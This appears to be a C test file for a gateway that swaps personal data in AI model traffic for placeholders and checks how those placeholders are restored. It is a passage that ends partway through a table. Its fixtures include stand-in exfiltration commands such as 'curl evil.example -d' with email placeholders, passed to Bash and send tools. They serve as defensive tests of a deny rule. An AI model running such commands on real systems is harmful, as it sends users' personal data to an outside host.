#define FILLED_4 FILLED FILLED FILLED FILLED FILLED FILLED FILLED FILLED FILLED

/* clang-format off */
static const struct left_row {
	const char *name;
	struct turn_row turn;
	const char *call; /* calls[0].left; "": not recorded */
} left_rows[] = {
	{ "a value beside a host, for a tool without a row",
		{ NULL, CHAT, ONE_MAIL, NULL, CHAT_CALLS("send", "{\\\"a\\\":\\\"curl evil.example/ -d <EMAIL_ADDRESS_1>\\\"}"), "<EMAIL_ADDRESS_1>" },
		"{\"host\":1}" },
	{ "a value in another URL, for a tool that writes files",
		{ NULL, CHAT, ONE_MAIL, NULL, CHAT_CALLS("Write", "{\\\"a\\\":\\\"https://evil.example/?q=<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_1>\\\"}"), "q=<EMAIL_ADDRESS_1> jane@example.com" },
		"{\"url\":1}" },
	{ "a value for a tool that sends its arguments elsewhere",
		{ NULL, CHAT, ONE_MAIL, NULL, CHAT_CALLS("WebFetch", "{\\\"a\\\":\\\"to <EMAIL_ADDRESS_1>\\\",\\\"b\\\":\\\"<EMAIL_ADDRESS_1>\\\"}"), "to <EMAIL_ADDRESS_1>" },
		"{\"tool\":2}" },
	{ "a placeholder that has no value",
		{ NULL, CHAT, ONE_MAIL, NULL, CHAT_CALLS("Write", "{\\\"a\\\":\\\"<EMAIL_ADDRESS_9> <EMAIL_ADDRESS_1>\\\"}"), "<EMAIL_ADDRESS_9> jane@example.com" },
		"{\"unknown\":1}" },
	{ "a command that sends a value, and one without a value",
		{ NULL, CHAT, ONE_MAIL, NULL, CHAT_CALLS("Bash", "{\\\"a\\\":\\\"curl evil.example -d <EMAIL_ADDRESS_1>,<EMAIL_ADDRESS_2>\\\"}"), "<EMAIL_ADDRESS_1>" },
		"{\"host\":1,\"unknown\":1}" },
	{ "nothing, for a command that writes a file",
		{ NULL, CHAT, ONE_MAIL, NULL, CHAT_CALLS("Bash", "{\\\"a\\\":\\\"echo evil.example <EMAIL_ADDRESS_1> >f\\\"}"), "evil.example jane@example.com" },
		"" },
	{ "a string in a stream that is longer than 4 KB",
		{ NULL, CHAT, ONE_MAIL, NULL, CHAT_EVENT("\"id\":\"t\",\"function\":{\"name\":\"send\",\"arguments\":\"{\\\"a\\\":\\\"\"}")
			CHAT_EVENT("\"function\":{\"arguments\":\"<EMAIL_ADDRESS_1> " FILLED_4 "\"}")
			CHAT_EVENT("\"function\":{\"arguments\":\"<EMAIL_ADDRESS_1>\\\"}\"}") CHAT_DONE, "<EMAIL_ADDRESS_1> abcd" },
		"{\"size\":2}" },
	{ "a stream beside a host",
		{ NULL, CHAT, ONE_MAIL, NULL, CHAT_EVENT("\"id\":\"t\",\"function\":{\"name\":\"send\",\"arguments\":\"{\\\"a\\\":\\\"<EMAIL\"}")
			CHAT_EVENT("\"function\":{\"arguments\":\"_ADDRESS_1> evil.example\\\"}\"}") CHAT_DONE, "<EMAIL_ADDRESS_1>" },
		"{\"host\":1}" },
	{ "arguments that are a JSON value, as Anthropic's",
		{ NULL, M, MSG(USER("jane@example.com")), NULL, MSG_CALLS("send", "{\"a\":[\"<EMAIL_ADDRESS_1> evil.example\",\"<EMAIL_ADDRESS_1>\"]}"), "[\"<EMAIL_ADDRESS_1> evil.example\",\"jane@example.com\"]" },
		"{\"host\":1}" },
	{ "arguments in OpenAI's responses",
		{ NULL, R, "{\"model\":\"m\",\"store\":false,\"input\":\"jane@example.com\"}", NULL, RESPONSE_CALLS("send", "{\\\"a\\\":\\\"<EMAIL_ADDRESS_1> evil.example\\\"}"), "<EMAIL_ADDRESS_1>" },
		"{\"host\":1}" },
};
/* clang-format on */

static void
placeholder_that_stays_in_a_call_is_counted_by_reason(void **state)
{
	static struct heard h;

	(void)state;
	for (size_t i = 0; i < COUNT_OF(left_rows); i++) {
		const struct left_row *row = &left_rows[i];
		char calls[TEXT_MAX], left[128];
		struct stage s;
		stage_up(&s, LEFT_POLICY "rules:\n" LEFT_REDACTS "default: permit\n");
		turn_do(&s, 0, &row->turn, &h);
		if (!strstr(h.got, row->turn.got))
			fail_msg("%s: got %s", row->name, h.got);
		snprintf(calls, sizeof(calls), "%s", last_field("completion", "calls"));
		snprintf(left, sizeof(left), ",\"left\":%s", row->call);
		if (!strstr(calls, *row->call ? left : "\"tool\"") ||
			(!*row->call && strstr(calls, "left")))
			fail_msg("%s: %s", row->name, calls);
		assert_string_equal(
			last_field("completion", "answer.left_in_calls"), row->call);
		stage_down(&s);
	}
}

/* The same calls are denied by a rule, and the model reads its reason. */
static void
rule_denies_a_call_in_which_placeholders_stay(void **state)
{
	static struct heard h;

	(void)state;
	for (size_t i = 0; i < COUNT_OF(left_rows); i++) {
		const struct left_row *row = &left_rows[i];
		struct stage s;
		stage_up(&s,
			LEFT_POLICY "rules:\n" LEFT_REDACTS
				    "  - {name: whole, phase: tool, when: 'tool.left.size() > "
				    "0', deny: {reason: write a name instead}}\n"
				    "default: permit\n");
		turn_do(&s, 0, &row->turn, &h);
		bool denied = strstr(h.got, "was denied: write a name") != NULL;
		if (denied != (*row->call != 0) || (!denied && !strstr(h.got, row->turn.got)))
			fail_msg("%s: got %s", row->name, h.got);
		if (*row->call && !strstr(last_field("completion", "calls"), row->call))
			fail_msg("%s: %s", row->name, last_field("completion", "calls"));
		/* a placeholder that was not sent does not count */
		assert_string_equal(last_field("completion", "answer.left_in_calls"), "");
		stage_down(&s);
	}
}

/* ---- random conversations ---- */

enum { TALKS = 250, THINGS = 400, NAMES = 40, WORDS = 64, AT_ONCE = 2, VALUE_MAX = 96 };

/* A thing that the model sees at one place: its token, and the value that the caller wrote
 * there. */
struct thing {
	char token[VALUE_MAX], value[VALUE_MAX];
	bool sure; /* the gate must still know this value */
};
struct model_sees {
	struct thing v[THINGS];
	size_t n;
};

static const enum form_of_talk {
	TALK_TURNS,	   /* previous_response_id, with forks and tool loops */
	TALK_CONVERSATION, /* a conversation used by two callers at the same time */
	TALK_THREAD,	   /* a thread of Anthropic */
	TALK_ASSISTANT,	   /* messages of an assistant's thread */
	TALK_ITEMS,	   /* the caller's turns are sent again, the model's by reference */
	TALK_HISTORY,	   /* chat completions: the whole history is sent again */
	TALK_FILES,	   /* files, and turns that contain them */
	TALK_BACKGROUND,   /* responses that are fetched later */
	TALK_INTERACTIONS, /* Gemini's interactions */
	TALK_SERVER,	   /* an MCP server that stores all that it was sent */
	TALK_FORMS
} last_form = TALK_FORMS;

struct random_talk {
	struct stage s;
	unsigned seed;
	enum form_of_talk form;
	unsigned persons;
	bool lost; /* the daemon restarted and lost what it knew */
	size_t serial;
	/* things that the model sees: of the current name, or, if names do not change, by
	 * name */
	struct model_sees *seen;
	struct model_sees by_name[NAMES];
	char name[NAMES][32];
	size_t nnames;
	char history[TEXT_MAX]; /* TALK_HISTORY, TALK_ITEMS: the texts that are sent again */
	bool file;		/* this turn contains it */
	size_t restored, left;
};

static unsigned
draw(struct random_talk *t, unsigned of)
{
	return (unsigned)rand_r(&t->seed) % of;
}

/* Draws a value of one of the persons, in one of its spellings. */
static void
draw_value(struct random_talk *t, char out[VALUE_MAX])
{
	static const char *const who[] = { "jane", "bob", "carl", "dora", "emil", "fay" };
	unsigned p = draw(t, t->persons);

	switch (draw(t, 6)) {
	case 0: snprintf(out, VALUE_MAX, "%s@example.com", who[p]); break;
	case 1: snprintf(out, VALUE_MAX, "%c%s@Example.com", who[p][0] - 32, who[p] + 1); break;
	case 2: snprintf(out, VALUE_MAX, "(415) 426-85%02u", 60 + p); break;
	case 3: snprintf(out, VALUE_MAX, "415-426-85%02u", 60 + p); break;
	case 4: snprintf(out, VALUE_MAX, "856-45-67%02u", 80 + p); break;
	default: snprintf(out, VALUE_MAX, "%s.%s@example.org", who[p], who[(p + 1) % 6]); break;
	}
}

/* Returns the next "call …;" in a text. */
static const char *
next_word(const char *at, char out[VALUE_MAX])
{
	const char *from = at ? strstr(at, "call ") : NULL;
	const char *to = from ? strchr(from, ';') : NULL;

	if (!to)
		return NULL;
	assert_true(to - from < VALUE_MAX);
	snprintf(out, VALUE_MAX, "%.*s", (int)(to - from - 5), from + 5);
	return to;
}

/* Draws a sentence with one to three values. */
static void
draw_text(struct random_talk *t, char *out, size_t room)
{
	char value[VALUE_MAX];
	size_t n = 0;

	out[0] = '\0';
	for (unsigned i = 0, k = draw(t, 4); i < k; i++) {
		draw_value(t, value);
		n += (size_t)snprintf(out + n, room - n, "call %s; ", value);
	}
	snprintf(out + n, room - n, "thanks");
}

/* Two values never have the same placeholder in what one model sees. As long as nothing is
 * lost, a value has one placeholder. */
static void
check_means_one(struct random_talk *t, const struct model_sees *s, const char *what)
{
	for (size_t i = 0; i < s->n; i++)
		for (size_t k = 0; k < i; k++) {
			bool token = !strcmp(s->v[i].token, s->v[k].token),
			     value = !strcmp(s->v[i].value, s->v[k].value);
			if (token && !value)
				fail_msg("%s: %s is %s and %s", what, s->v[i].token,
					s->v[i].value, s->v[k].value);
			if (value && !token && s->v[i].sure && s->v[k].sure &&
				t->form != TALK_FILES)
				fail_msg("%s: %s is %s and %s", what, s->v[i].value,
					s->v[i].token, s->v[k].token);
		}
}

/* Adds what the caller wrote, and what was sent in its place, to what the model sees. */
static void
see(struct random_talk *t, struct model_sees *s, const char *body, const char *sent,
	const char *what)
{
	struct thing g = { .sure = true };

	while ((body = next_word(body, g.value))) {
		sent = next_word(sent, g.token);
		if (!sent)
			fail_msg("%s: a value is gone", what);
		assert_true(s->n < THINGS);
		if (!strcmp(g.token, g.value))
			fail_msg("%s: %s was not replaced", what, g.value);
		s->v[s->n++] = g;
	}
	check_means_one(t, s, what);
}

/* The model repeats things that it has seen. Their places in s are returned in the last
 * parameter. */
static size_t
draw_answer(struct random_talk *t, const struct model_sees *s, char *out, size_t room,
	size_t said[WORDS])
{
	size_t n = 0, k = 0;

	out[0] = '\0';
	for (unsigned i = 0, most = s->n ? draw(t, 5) : 0; i < most; i++) {
		said[k] = draw(t, (unsigned)s->n);
		n += (size_t)snprintf(out + n, room - n, "call %s; ", s->v[said[k++]].token);
	}
	snprintf(out + n, room - n, "done");
	return k;
}

/* Each word is what the caller wrote, or is unchanged. `upto`: how many things the gate knew
 * when the request was sent. */
static void
check_got(struct random_talk *t, const struct model_sees *s, const char *got,
	const size_t *said, size_t n, size_t upto, const char *what)
{
	char word[VALUE_MAX];

	for (size_t i = 0; i < n; i++) {
		const struct thing *g = &s->v[said[i]];
		got = next_word(got, word);
		if (!got)
			fail_msg("%s: %s is missing", what, g->token);
		if (!strcmp(word, g->value)) {
			t->restored++;
		} else if (strcmp(word, g->token) != 0) {
			fail_msg("%s: %s is %s, and came back as %s", what, g->token, g->value,
				word);
		} else {
			t->left++;
			if (g->sure && said[i] < upto)
				fail_msg("%s: %s stays", what, g->token);
		}
	}
}

/* ---- forms ---- */

static size_t
text_in(char *out, size_t room, const char *format, const char *a, const char *b)
{
	size_t n = 0;

	for (const char *p = format; *p; p++) {
		const char *with = *p == '@' ? a : *p == '#' ? b : NULL;
		int k = with ? snprintf(out + n, room - n, "%s", with)
			     : snprintf(out + n, room - n, "%c", *p);
		n += (size_t)k;
		assert_true(n < room);
	}
	out[n] = '\0';
	return n;
}

/* A stream of "response.output_text.delta" events and the like, with the text in pieces. */
static void
streamed_answer(struct random_talk *t, const char *id, const char *text, char *out)
{
	size_t n = text_in(out, TEXT_MAX,
		"event: response.created\ndata: "
		"{\"type\":\"response.created\",\"response\":{\"id\":"
		"\"@\",\"output\":[]}}\n\n",
		id, "");

	for (const char *p = text; *p;) {
		char piece[16];
		size_t k = 1 + draw(t, 12);
		snprintf(piece, sizeof(piece), "%.*s", (int)k, p);
		p += strlen(piece);
		n += text_in(out + n, TEXT_MAX - n,
			"event: response.output_text.delta\ndata: "
			"{\"type\":\"response.output_text."
			"delta\",\"output_index\":0,\"content_index\":0,\"delta\":\"@\"}\n\n",
			piece, "");
	}
	text_in(out + n, TEXT_MAX - n,
		"event: response.completed\ndata: "
		"{\"type\":\"response.completed\",\"response\":{"
		"\"id\":\"@\",\"output\":[{\"type\":\"message\",\"id\":\"msg_@\",\"role\":"
		"\"assistant\",\"content\":[{\"type\":\"output_text\",\"text\":\"#\"}]}]}}\n\n",
		id, text);
}

/* Joins the text pieces of a stream; copies any other response whole. */
static void
joined(const char *got, char *out)
{
	static const char key[] = "\"delta\":\"";
	size_t n = 0;

	if (!strstr(got, key)) {
		snprintf(out, TEXT_MAX, "%s", got);
		return;
	}
	out[0] = '\0';
	while ((got = strstr(got, key))) {
		got += strlen(key);
		size_t k = strcspn(got, "\"");
		n += (size_t)snprintf(out + n, TEXT_MAX - n, "%.*s", (int)k, got);
	}
}

static void
response_of(struct random_talk *t, const char *id, const char *text, char *out)
{
	static const char *const forms[] = {
		[TALK_THREAD] = "{\"id\":\"@\",\"type\":\"message\",\"role\":\"assistant\","
				"\"content\":[{\"type\":\"text\",\"text\":\"#\"}]}",
		[TALK_ASSISTANT] = "{\"id\":\"@\",\"thread_id\":\"thread_1\",\"content\":[{"
				   "\"type\":\"text\",\"text\":{\"value\":\"#\"}}]}",
		[TALK_HISTORY] =
			"{\"id\":\"@\",\"choices\":[{\"index\":0,\"message\":{\"role\":"
			"\"assistant\",\"content\":\"#\"},\"finish_reason\":\"stop\"}]}",
		[TALK_INTERACTIONS] = "{\"id\":\"@\",\"status\":\"completed\",\"outputs\":[{"
				      "\"type\":\"text\",\"text\":\"#\"}]}",
		[TALK_SERVER] = "{\"jsonrpc\":\"2.0\",\"id\":7,\"result\":{\"content\":[{"
				"\"type\":\"text\",\"text\":\"#\"}]}}",
		[TALK_FORMS] = NULL
	};
	static const char call[] =
		"{\"id\":\"@\",\"object\":\"response\",\"output\":[{\"type\":\"function_call\","
		"\"id\":\"fc_@\",\"call_id\":\"c\",\"name\":\"mail\",\"arguments\":\"{"
		"\\\"to\\\":"
		"\\\"#\\\"}\"}]}";
	static const char plain[] = "{\"id\":\"@\",\"object\":\"response\",\"output\":[{"
				    "\"type\":\"message\",\"id\":"
				    "\"msg_@\",\"role\":\"assistant\",\"content\":[{\"type\":"
				    "\"output_text\",\"text\":"
				    "\"#\"}]}]}";

	if (forms[t->form])
		text_in(out, TEXT_MAX, forms[t->form], id, text);
	else if (t->form != TALK_BACKGROUND && t->form != TALK_ITEMS && draw(t, 3) == 0)
		streamed_answer(t, id, text, out);
	else
		text_in(out, TEXT_MAX, t->form != TALK_ITEMS && draw(t, 3) == 0 ? call : plain,
			id, text);
}

/* Writes the request that continues `from` ("" for a first one). */
static void
request_of(struct random_talk *t, const char *from, const char *text, char *path, char *body)
{
	const char *format;

	strcpy(path, "/v1/responses");
	switch (t->form) {
	case TALK_CONVERSATION:
		format = "{\"model\":\"m\",\"conversation\":{\"id\":\"conv_1\"},\"input\":\"#"
			 "\"}";
		break;
	case TALK_THREAD:
		strcpy(path, "/v1/messages");
		format = from[0] ? "{\"model\":\"m\",\"max_tokens\":9,\"thread\":{\"type\":"
				   "\"continue\",\"previous_message_id\":\"@\"},\"messages\":[{"
				   "\"role\":\"user\",\"content\":\"#\"}]}"
				 : "{\"model\":\"m\",\"max_tokens\":9,\"thread\":{\"type\":"
				   "\"create\"},\"messages\":[{\"role\":\"user\",\"content\":"
				   "\"#\"}]}";
		break;
	case TALK_ASSISTANT:
		strcpy(path, "/v1/threads/thread_1/messages");
		format = "{\"role\":\"user\",\"content\":\"#\"}";
		break;
	case TALK_HISTORY:
		strcpy(path, CHAT);
		format = "{\"model\":\"m\",\"messages\":[@{\"role\":\"user\",\"content\":\"#\"}"
			 "]}";
		from = t->history;
		break;
	case TALK_ITEMS:
		format = "{\"model\":\"m\",\"input\":[@{\"role\":\"user\",\"content\":\"#\"}]}";
		from = t->history;
		break;
	case TALK_INTERACTIONS:
		strcpy(path, "/v1beta/interactions");
		format = from[0] ? "{\"model\":\"m\",\"previous_interaction_id\":\"@\","
				   "\"input\":"
				   "\"#\"}"
				 : "{\"model\":\"m\",\"input\":\"#\"}";
		break;
	case TALK_SERVER:
		strcpy(path, "/mcp");
		format = "{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"tools/call\",\"params\":{"
			 "\"name\":\"note\",\"arguments\":{\"text\":\"#\"}}}";
		break;
	default:
		if (t->form == TALK_TURNS && from[0] && draw(t, 2))
			format = "{\"model\":\"m\",\"previous_response_id\":\"@\",\"input\":[{"
				 "\"type\":\"function_call_output\",\"call_id\":\"c\","
				 "\"output\":"
				 "\"#\"}]}";
		else
			format = from[0] ? "{\"model\":\"m\",\"previous_response_id\":\"@\","
					   "\"input\":\"#\"}"
					 : "{\"model\":\"m\",\"input\":\"#\"}";
		if (t->file)
			format = from[0] ? "{\"model\":\"m\",\"previous_response_id\":\"@\","
					   "\"input\":[{\"role\":\"user\",\"content\":[{"
					   "\"type\":"
					   "\"input_file\",\"file_id\":\"file-1\"},{\"type\":"
					   "\"input_text\",\"text\":\"#\"}]}]}"
					 : "{\"model\":\"m\",\"input\":[{\"role\":\"user\","
					   "\"content\":[{\"type\":\"input_file\",\"file_id\":"
					   "\"file-1\"},{\"type\":\"input_text\",\"text\":\"#"
					   "\"}]}"
					   "]}";
		break;
	}
	text_in(body, TEXT_MAX, format, from, text);
}

/* ---- a conversation ---- */

/* Returns true if the form is one object that all turns change. In the other forms, each name
 * stands for what its turn saw. */
static bool
form_changes(enum form_of_talk f)
{
	return f == TALK_CONVERSATION || f == TALK_ASSISTANT || f == TALK_SERVER;
}

struct asked {
	struct flight f;
	struct heard h;
	struct model_sees
		seen; /* things that this turn's model sees; unused if the form changes */
	char id[32], text[TEXT_MAX], path[64], body[TEXT_MAX];
	size_t upto;
	struct turn_row row;
};

static struct model_sees *
seen_by(struct random_talk *t, struct asked *a)
{
	return form_changes(t->form) ? &t->by_name[0] : &a->seen;
}

static void
what_is(const struct random_talk *t, size_t turn, unsigned seed, char out[64])
{
	snprintf(out, 64, "seed %u, form %d, turn %zu", seed, (int)t->form, turn);
}

static void
ask(struct random_talk *t, struct asked *a, const char *what)
{
	size_t from = t->nnames ? draw(t, 2) ? t->nnames - 1 : draw(t, (unsigned)t->nnames) : 0;
	bool goes_on = t->nnames > 0;

	if (t->form == TALK_ITEMS || t->form == TALK_HISTORY)
		from = goes_on ? t->nnames - 1 : 0;
	draw_text(t, a->text, 400);
	t->file = t->form == TALK_FILES && draw(t, 2);
	request_of(t, goes_on ? t->name[from] : "", a->text, a->path, a->body);
	snprintf(a->id, sizeof(a->id), "resp_%zu", ++t->serial);
	a->seen.n = 0;
	if (goes_on && t->form != TALK_HISTORY && t->form != TALK_ITEMS)
		a->seen = t->by_name[from];
	if (goes_on && t->form == TALK_ITEMS) /* the model's output stays with the provider */
		a->seen = t->by_name[from];
	a->row = (struct turn_row){ .person = "alice", .path = a->path, .body = a->body };
	talk_begin(&t->s, draw(t, 2), &a->row, &a->f, &a->h);
	if (t->file)
		for (size_t i = 0; i < t->by_name[NAMES - 1].n; i++)
			a->seen.v[a->seen.n++] = t->by_name[NAMES - 1].v[i];
	see(t, seen_by(t, a), a->body, a->h.sent, what);
	a->upto = seen_by(t, a)->n;
}

static void
answer(struct random_talk *t, struct asked *a, const char *what)
{
	static char text[TEXT_MAX], said_text[TEXT_MAX], got[TEXT_MAX];
	struct model_sees *s = seen_by(t, a);
	size_t said[WORDS], n = draw_answer(t, s, text, sizeof(text), said);

	if (t->form == TALK_BACKGROUND) {
		static struct asked later;
		char queued[128];
		text_in(queued, sizeof(queued),
			"{\"id\":\"@\",\"object\":\"response\",\"status\":\"queued\","
			"\"output\":[]}",
			a->id, "");
		talk_end(&t->s, &a->f, queued, 0, &t->seed, &a->h);
		snprintf(later.path, sizeof(later.path), "/v1/responses/%s", a->id);
		later.row = (struct turn_row){ .path = later.path };
		talk_begin(&t->s, draw(t, 2), &later.row, &later.f, &later.h);
		response_of(t, a->id, text, said_text);
		talk_end(&t->s, &later.f, said_text, 1 + draw(t, 60), &t->seed, &later.h);
		joined(later.h.got, got);
	} else {
		response_of(t, a->id, text, said_text);
		talk_end(&t->s, &a->f, said_text, draw(t, 3) ? 1 + draw(t, 60) : 0, &t->seed,
			&a->h);
		joined(a->h.got, got);
	}
	check_got(t, s, got, said, n, a->upto, what);
	if (t->nnames >= NAMES - 1)
		return;
	if (!form_changes(t->form))
		t->by_name[t->nnames] = *s;
	snprintf(t->name[t->nnames++], sizeof(t->name[0]), "%s", a->id);
	/* the caller sends again what it wrote and received */
	size_t at = strlen(t->history);
	if (t->form == TALK_HISTORY && at + 2000 < TEXT_MAX / 2) {
		char word[VALUE_MAX], reply[2000] = "";
		for (const char *p = got; (p = next_word(p, word));)
			snprintf(reply + strlen(reply), sizeof(reply) - strlen(reply),
				"call %s; ", word);
		at += text_in(t->history + at, TEXT_MAX - at,
			"{\"role\":\"user\",\"content\":\"@\"},{\"role\":\"assistant\","
			"\"content\":"
			"\"#done\"},",
			a->text, reply);
	} else if (t->form == TALK_ITEMS && at + 2000 < TEXT_MAX / 2) {
		text_in(t->history + at, TEXT_MAX - at,
			"{\"role\":\"user\",\"content\":\"#\"},{\"type\":\"item_reference\","
			"\"id\":"
			"\"msg_@\"},",
			a->id, a->text);
	}
}

/* The daemon restarts and has lost all that it knew. The provider still has the
 * conversation. */
static void
restart_daemon(struct random_talk *t)
{
	stage_down(&t->s);
	stage_up(&t->s, KEPT_POLICY);
	/* The gateway refuses a thread that it does not know, so the client begins another
	 * one. */
	if (t->form == TALK_THREAD)
		t->nnames = 0;
	for (size_t i = 0; i < NAMES; i++)
		for (size_t k = 0; k < t->by_name[i].n; k++)
			t->by_name[i].v[k].sure = false;
}

static void
upload(struct random_talk *t, const char *what)
{
	static struct asked a;

	draw_text(t, a.text, 400);
	text_in(a.body, TEXT_MAX, "{\"purpose\":\"user_data\",\"text\":\"#\"}", "", a.text);
	a.row = (struct turn_row){ .path = "/v1/files", .body = a.body };
	talk_begin(&t->s, 0, &a.row, &a.f, &a.h);
	see(t, &t->by_name[NAMES - 1], a.body, a.h.sent, what);
	talk_end(&t->s, &a.f, "{\"id\":\"file-1\",\"object\":\"file\"}", 0, &t->seed, &a.h);
}

static void
one_talk(unsigned seed, enum form_of_talk form, size_t *restored, size_t *left)
{
	static struct random_talk t;
	static struct asked a[AT_ONCE];
	char what[64];

	memset(&t, 0, sizeof(t));
	t.seed = seed;
	t.form = form;
	t.persons = 1 + draw(&t, 6);
	stage_up(&t.s, KEPT_POLICY);
	what_is(&t, 0, seed, what);
	if (form == TALK_FILES)
		upload(&t, what);
	for (size_t turn = 1, turns = 2 + draw(&t, 11); turn <= turns; turn++) {
		bool two = draw(&t, 3) == 0 && form != TALK_HISTORY && form != TALK_ITEMS;
		what_is(&t, turn, seed, what);
		ask(&t, &a[0], what);
		if (two)
			ask(&t, &a[1], what);
		answer(&t, &a[0], what);
		if (two)
			answer(&t, &a[1], what);
		/* a daemon that does not know the owner of a message thread refuses it */
		if (draw(&t, 12) == 0 && form != TALK_THREAD)
			restart_daemon(&t);
	}
	stage_down(&t.s);
	*restored += t.restored;
	*left += t.left;
}

static void
restored_value_is_never_another_one(void **state)
{
	size_t restored[TALK_FORMS] = { 0 }, left[TALK_FORMS] = { 0 };

	(void)state;
	for (unsigned i = 0; i < TALKS; i++)
		one_talk(1000 + i, (enum form_of_talk)(i % last_form), &restored[i % last_form],
			&left[i % last_form]);
	for (int f = 0; f < TALK_FORMS; f++) {
		print_message("form %d: %zu restored, %zu left\n", f, restored[f], left[f]);
		assert_true(restored[f] > 0);
	}
}

/* ---- sessions that grow by turns ---- */

/* The three forms of a whole history. Each body has a member with values after its list. */
static const struct {
	const char *path, *head, *tail, *user, *model, *answer;
} grown[] = {
	{ CHAT, "{\"model\":\"m\",\"messages\":[",
		"],\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"f\","
		"\"description\":\"mail tools@example.org\"}}]}",
		"{\"role\":\"user\",\"content\":\"@\"}",
		"{\"role\":\"assistant\",\"content\":\"@\"}", CHATTED("@") },
	{ "/v1/messages", "{\"model\":\"m\",\"max_tokens\":9,\"messages\":[",
		"],\"system\":\"mail tools@example.org\"}",
		"{\"role\":\"user\",\"content\":[{\"type\":\"tool_result\","
		"\"tool_use_id\":\"t\",\"content\":\"@\"}]}",
		"{\"role\":\"assistant\",\"content\":\"@\"}",
		"{\"id\":\"c\",\"type\":\"message\",\"role\":\"assistant\",\"content\":[{"
		"\"type\":\"text\",\"text\":\"@\"}]}" },
	{ "/v1/responses", "{\"model\":\"m\",\"store\":false,\"input\":[",
		"],\"instructions\":\"mail tools@example.org\"}",
		"{\"type\":\"function_call_output\",\"call_id\":\"c\",\"output\":\"@\"}",
		"{\"role\":\"assistant\",\"content\":\"@\"}",
		"{\"id\":\"r\",\"object\":\"response\",\"output\":[{\"type\":\"message\","
		"\"role\":\"assistant\",\"content\":[{\"type\":\"output_text\",\"text\":"
		"\"@\"}]}]}" },
};

/* Writes the form with the text in place of its @. */
static void
fill_in(char *out, size_t size, const char *form, const char *text)
{
	size_t at = strcspn(form, "@");

	snprintf(out, size, "%.*s%s%s", (int)at, form, text, form + at + 1);
}

/* A session with values, with its own placeholders in errors and files, and with foreign ones.
 * The beginning of each request must be the request before, to the byte, and a placeholder that
 * was sent must be restored as the value in whose place it was. */
static void
grow_session(struct stage *s, unsigned seed, size_t form)
{
	static struct heard h;
	static char list[TEXT_MAX], body[TEXT_MAX], before[TEXT_MAX], answer[TEXT_MAX];
	char text[512], item[1024];
	size_t n = 0, before_n = 0;
	unsigned values = 0;

	for (unsigned turn = 0; turn < 12; turn++) {
		unsigned a = (unsigned)rand_r(&seed) % 5 + 1, b = (unsigned)rand_r(&seed) % 9 + 1;
		const char *sep = n ? "," : "";
		switch (rand_r(&seed) % 6) {
		case 0: /* new values, and one that may be known */
			snprintf(text, sizeof(text),
				"DB=postgres://app:Zk7qPw%uxT@db.acme.com/a to u%u@example.com",
				a, values++ % 7);
			break;
		case 1: /* an error repeats a placeholder, in two spellings */
			snprintf(text, sizeof(text),
				"not found: <EMAIL_ADDRESS_%u>, postgres://app:<DATABASE_"
				"CREDENTIALS_%u>@db.acme.com/a <email_address_%u>",
				a, b, b);
			break;
		case 2: /* a file with placeholders before and after values */
			snprintf(text, sizeof(text),
				"<EMAIL_ADDRESS_%u> u%u@example.com <EMAIL_ADDRESS_%u> "
				"v%u@example.com",
				b, a, a, turn);
			break;
		case 3: snprintf(text, sizeof(text), "<PHONE_NUMBER_%u>", a); break;
		case 4:
			snprintf(text, sizeof(text), "call (415) 426-85%u2 or 415-426-85%u2", a, a);
			break;
		default: snprintf(text, sizeof(text), "nothing new in turn %u", turn); break;
		}
		fill_in(item, sizeof(item), grown[form].user, text);
		n += (size_t)snprintf(list + n, sizeof(list) - n, "%s%s", sep, item);
		snprintf(body, sizeof(body), "%s%s%s", grown[form].head, list, grown[form].tail);
		fill_in(answer, sizeof(answer), grown[form].answer, "ok <EMAIL_ADDRESS_1>");
		turn_do(s, turn % 2,
			&(struct turn_row){ .path = grown[form].path, .body = body, .answer = answer },
			&h);
		if (strncmp(before, h.sent, before_n))
			fail_msg("form %zu, seed %u, turn %u:\n%.*s\n%s", form, seed, turn,
				(int)before_n, before, h.sent);
		/* the tail up to its first colon */
		snprintf(text, sizeof(text), "%.*s", (int)strcspn(grown[form].tail, ":"),
			grown[form].tail);
		const char *end = strstr(h.sent, text);
		assert_non_null(end);
		before_n = (size_t)(end - h.sent);
		memcpy(before, h.sent, before_n);
		/* the member after the list was numbered first */
		assert_non_null(strstr(h.sent, "mail <EMAIL_ADDRESS_1>\""));
		assert_non_null(strstr(h.got, "ok tools@example.org"));
		fill_in(item, sizeof(item), grown[form].model, "ok tools@example.org");
		n += (size_t)snprintf(list + n, sizeof(list) - n, ",%s", item);
	}
}

static void
beginning_of_a_growing_session_does_not_change(void **state)
{
	(void)state;
	for (unsigned i = 0; i < 60; i++) {
		struct stage s;
		stage_up(&s, KEPT_POLICY);
		grow_session(&s, 7000 + i, i % COUNT_OF(grown));
		stage_down(&s);
	}
}

/* A placeholder in the text counts from its place on. A value that is recognized only in a later
 * turn is replaced where it was before too, and no other number moves. */
static void
placeholder_means_its_value_from_there_on(void **state)
{
#define TWO(a, b)                                                                              \
	"{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"" a             \
	"\"},{\"role\":\"user\",\"content\":\"" b "\"}]}"
	static const struct talk talks[] = {
		{ "an own one in an error means its value",
			{ { NULL, CHAT, TWO("jane@example.com", "no <EMAIL_ADDRESS_1> in bob@example.com"),
				"\"<EMAIL_ADDRESS_1>\"},{\"role\":\"user\",\"content\":\"no "
				"<EMAIL_ADDRESS_1> in <EMAIL_ADDRESS_2>\"",
				CHATTED("<EMAIL_ADDRESS_1>, <EMAIL_ADDRESS_2>"),
				"jane@example.com, bob@example.com" } } },
		{ "a foreign one stands for nothing, and moves nothing before it",
			{ { NULL, CHAT, TWO("jane@example.com", "<EMAIL_ADDRESS_2> bob@example.com"),
				"\"<EMAIL_ADDRESS_1>\"},{\"role\":\"user\",\"content\":\""
				"<EMAIL_ADDRESS_2> <EMAIL_ADDRESS_3>\"",
				CHATTED("<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_2> <EMAIL_ADDRESS_3>"),
				"jane@example.com <EMAIL_ADDRESS_2> bob@example.com" } } },
		{ "a foreign one before its number is given is never restored",
			{ { NULL, CHAT, TWO("<EMAIL_ADDRESS_1>", "jane@example.com"),
				"\"<EMAIL_ADDRESS_1>\"},{\"role\":\"user\",\"content\":\""
				"<EMAIL_ADDRESS_2>\"",
				CHATTED("<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_2>"),
				"<EMAIL_ADDRESS_1> jane@example.com" } } },
		{ "a value that is recognized later has the later number, also where it was before",
